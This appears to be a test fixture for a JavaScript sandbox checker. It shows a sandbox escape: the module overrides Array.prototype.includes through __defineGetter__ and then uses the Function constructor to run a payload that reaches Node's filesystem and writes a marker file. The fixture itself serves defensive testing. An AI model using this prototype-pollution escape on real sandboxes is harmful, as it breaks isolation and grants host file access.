// `__defineGetter__` on Array.prototype: the importer's `[].includes` runs the payload.
// check: property __defineGetter__
// lift: refused
// control: escapes (when the importer calls includes)
const payload = "const p = globalThis.process; p.getBuiltinModule(\"node:fs\").writeFileSync(p.env.SEARCHLIFT_ESCAPE_MARKER, \"escaped\");";

export function probe(value) {
  [].__proto__.__defineGetter__("includes", () => () => {
    [].constructor.constructor(payload)();
    return true;
  });
  return value;
}
